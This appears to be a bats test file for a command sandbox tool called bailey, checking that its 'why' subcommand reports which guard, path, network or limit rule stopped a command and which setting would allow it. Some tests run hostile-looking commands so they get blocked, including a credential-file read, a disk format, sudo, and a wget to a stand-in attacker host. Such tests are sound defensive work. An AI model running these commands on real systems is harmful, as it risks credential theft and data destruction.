#!/usr/bin/env bats
# shellcheck disable=SC2016,SC2154,SC2088 # the commands are for bailey; the helper sets variables
# bailey why: what stopped a command, and what would allow it; the settings that it names do.

# shellcheck source=tests/cli/run_helper.bash
load run_helper.bash

# why ARGUMENT...: runs a command, and prints what is said of it as JSON.
why() {
        bailey run --backend native --json "$@" >"$BATS_TEST_TMPDIR/outcome.json" 2>/dev/null || true
        bailey why --json
}

# is FIELD TEXT: of the only finding of $said
is() {
        local value
        value=$(jq -r "if (.findings | length) == 1 then .findings[0].$1 else error(.findings | tostring) end" <<<"$said")
        [ "$value" = "$2" ] || { echo "$1: $value, not $2" && return 1; }
}

# allowed COMMAND: runs with the setting of the only finding in a config
allowed() {
        jq -r '.findings[0].setting' <<<"$said" >"$BATS_TEST_TMPDIR/set.toml"
        bailey run --backend native --config "$BATS_TEST_TMPDIR/set.toml" "$@"
}

@test "nothing on record; no log" {
        run bailey why
        [ "$status" = 1 ]
        [ "$output" = "bailey: why: no blocked or failed command in the audit log" ]
        bailey run --backend native true
        run bailey why
        [ "$status" = 1 ]
        printf 'audit.enabled = false\n' >../off.toml
        run bailey why --config ../off.toml
        [ "$status" = 1 ]
        [ "$output" = "bailey: why: there is no audit log: audit.enabled is false. Set audit.enabled = true, and run the command again" ]
        run bailey why --what
        [ "$status" = 2 ]
}

@test "a rule of the guard, with the setting that turns it off" {
        said=$(why 'sudo -n true')
        is layer guard
        is kind privilege-escalation
        is setting 'guard.allow_sudo = true'
        [ "$(jq -r .end <<<"$said")" = "blocked by the guard" ]
        [ "$(jq -r .action <<<"$said")" = blocked ]
        said=$(why 'mkfs.ext4 x')
        is setting 'guard.command_allow_overrides = ["mkfs.ext4"]'
        said=$(why --set 'guard.command_blocklist=["git push"]' 'git push origin x')
        is subject 'git push'
        is setting 'guard.command_allow_overrides = ["git push"]'
        said=$(why --network inherit 'wget https://evil.example/x')
        is kind domain-not-allowed
        is setting 'guard.domain_allowlist = ["evil.example"]'
        said=$(why --set 'guard.dangerous_patterns=["ab+c"]' 'echo abbc')
        is setting 'remove the pattern from guard.dangerous_patterns'
        said=$(why 'cat ~/.aws/credentials')
        is setting 'guard.mode = "warn"' # nothing less would do
}

@test "a write outside of the workspace: the directory that exists is what would be allowed" {
        said=$(why --config "$OFF" 'touch /usr/share/new')
        is layer mounts
        is kind outside
        is subject /usr/share/new
        is setting 'sandbox.fs_write_allow = ["/usr/share"]'
        is option '--write /usr/share'
        [ "$(jq -r .end <<<"$said")" = "exit status 1" ]
        jq -e '.effects | index("write /usr/share/new")' <<<"$said"
        said=$(why --config "$OFF" 'touch /new')
        is setting null # that would be the whole file system
}

@test "a directory of the home that is not shown" {
        mkdir ~/private
        echo secret >~/private/file
        said=$(why 'cat ~/private/file')
        is layer 'hidden path'
        is kind hidden
        is subject "$HOME/private/file"
        is option "--read $HOME/private/file"
        [ "$(allowed 'cat ~/private/file')" = secret ]
}

@test "denied paths, protected paths, a read-only workspace" {
        echo x >denied
        said=$(why --set sandbox.fs_read_deny=denied 'cat denied')
        is kind read-denied
        is setting "remove the entry that matches $PWD/denied from sandbox.fs_read_deny"
        said=$(why --set sandbox.fs_write_deny="$PWD/denied" 'echo y >denied')
        is kind write-denied
        said=$(why --set sandbox.workspace_write=false 'touch new')
        is kind workspace-read-only
        allowed 'touch new'
        [ -e new ]
}

@test "hosts: no network, one that is not listed" {
        said=$(why 'git clone https://github.com/a/b')
        is layer network
        is kind network
        said=$(why --allow-host example.org 'git clone https://github.com/a/b')
        is kind host-deny # the config, where the line would stand, denies the network
        is subject github.com
        is setting 'sandbox.network = { kind = "allow_hosts", hosts = ["github.com"] }'
        is option '--allow-host github.com'
}

@test "limits: time, memory" {
        said=$(why --timeout 0.3 'sleep 600')
        is layer limit
        is kind timeout
        is subject '0.3 s'
        [ "$(jq -r .end <<<"$said")" = "timed out" ]
        said=$(why --memory 64M 'python3 -c "x = bytearray(1 << 30)"')
        is kind max_memory_bytes
        is subject '64 MiB'
        is option '--memory 0'
}

@test "a command that bailey did not stop, one that was not started, one that is asked for" {
        said=$(why 'exit 7')
        jq -e '.findings == [] and .end == "exit status 7" and .output_known' <<<"$said"
        run bailey why
        [[ $output == *$'\nThe audit log contains no sign that bailey stopped it.' ]]
        bailey run --backend native 'exit 8' || true
        run bailey why
        [[ $output == *'Its output was not examined; bailey run --json does that.' ]]
        bailey run --backend native --write /no/such/path true || true
        jq -e '.end == "not started" and (.message | contains("/no/such/path"))' <<<"$(bailey why --json)"
        id=$(bailey audit tail -n 0 --json | jq -r 'select(.exit_code == 7) | .id')
        [ "$(bailey why "$id" --json | jq -r .end)" = "exit status 7" ]
        [ "$(bailey why "${id:0:8}" --json | jq -r .id)" = "$id" ]
        run bailey why 00000000
        [ "$status" = 1 ]
        [ "$output" = "bailey: why: no finished command with the ID '00000000' in the audit log; see bailey audit" ]
}

@test "the text; what a command chose cannot change lines of it" {
        run bailey run --backend native --json $'cd / && touch "/srv/a\nb"'
        run bailey why
        [ "$status" = 0 ]
        [ "${lines[0]}" = 'command     cd / && touch "/srv/a\nb"' ]
        bailey run --backend native --json 'sudo x' || true
        run bailey why
        [[ $output == *$'\nstopped by  guard\nbecause     sudo raises'*$'\nto allow it guard.allow_sudo = true\nit opens    '* ]]
}
